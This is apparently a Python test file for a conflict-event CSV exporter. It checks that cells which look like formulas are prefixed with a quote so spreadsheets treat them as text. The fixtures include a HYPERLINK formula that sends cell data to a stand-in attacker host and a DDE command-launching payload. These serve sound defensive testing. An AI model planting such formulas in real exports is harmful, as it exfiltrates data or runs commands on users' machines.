"""The CSV export never hands a spreadsheet a formula: text cells that start like one are
quoted with a leading ', numbers and dates are left as they are."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd

from corroborate.export import export
from corroborate.export.acled import spreadsheet_safe
from corroborate.models import (
    Article,
    ArticleAnalysis,
    Claim,
    Event,
    PlaceMention,
    SourceRef,
    Span,
)

HOSTILE_ACTOR = '=HYPERLINK("http://attacker.example/?x="&A1,"Legion")'


def _hostile_analysis(lat: float = -33.45678, lon: float = -70.6) -> ArticleAnalysis:
    """An article whose outlet, actors, place and region are all written like formulas."""
    text = "@SUM(1+1) The Legion said it took the village."
    claim = Claim(
        id="a-c1",
        article_id="a",
        content=Span(0, len(text), text),
        sentence=Span(0, len(text), text),
        sources=[SourceRef("the Legion", Span(10, 20, text[10:20]))],
    )
    place = PlaceMention(
        Span(0, 9, text[:9]), "-2+3 village", lat, lon, "\tRegion", "CL", "district"
    )
    event = Event(
        id="a-v1",
        article_id="a",
        type="Battles",
        sub_type="Armed clash",
        date="2024-03-12",
        place=place.name,
        claim_ids=[claim.id],
        place_mention=place,
        date_precision="day",
        acted_by=[HOSTILE_ACTOR],
        targets=["+cmd|' /C calc'!A0", "-Army"],
    )
    article = Article("a", text, "a.txt", "text", outlet="@outlet", published=dt.date(2024, 3, 12))
    return ArticleAnalysis(article=article, claims=[claim], events=[event])


def _csv(analysis: ArticleAnalysis) -> str:
    out = io.StringIO(newline="")
    export([analysis], "csv", out)
    return out.getvalue()


def test_export_csv_formulas_text_cells_get_a_leading_quote() -> None:
    [row] = list(csv.DictReader(io.StringIO(_csv(_hostile_analysis()), newline="")))
    assert row["actor1"] == "'" + HOSTILE_ACTOR
    assert row["actor2"] == "'+cmd|' /C calc'!A0; -Army"
    assert row["location"] == "'-2+3 village"
    assert row["admin1"] == "'\tRegion"
    assert row["source"] == "'@outlet"
    # Cells that start otherwise are left alone, whatever they hold further on.
    assert row["notes"].startswith("2024-03-12: Armed clash at -2+3 village")
    assert row["event_type"] == "Battles"
    for column, cell in row.items():
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), column


def test_export_csv_formulas_numbers_and_dates_untouched() -> None:
    [row] = list(csv.DictReader(io.StringIO(_csv(_hostile_analysis()), newline="")))
    assert (row["latitude"], row["longitude"]) == ("-33.45678", "-70.60000")
    assert (row["event_date"], row["fatalities"], row["geo_precision"]) == ("2024-03-12", "0", "2")
    frame = pd.read_csv(io.StringIO(_csv(_hostile_analysis())))
    assert frame["latitude"].dtype.kind == "f" and frame["latitude"][0] == -33.45678


def test_export_csv_formulas_spreadsheet_safe_cases() -> None:
    quoted = ["=1+1", "+cmd", "-Army", "@SUM(A1)", "\tx", "\rx", "-", "-1+2", "--1", "-inf"]
    assert [spreadsheet_safe(cell) for cell in quoted] == ["'" + cell for cell in quoted]
    kept = ["-12", "-12.5", "+3", "-.5", "-1e5", "2024-03-12", "Tyotkino", "", " =1", "'=1"]
    assert [spreadsheet_safe(cell) for cell in kept] == kept
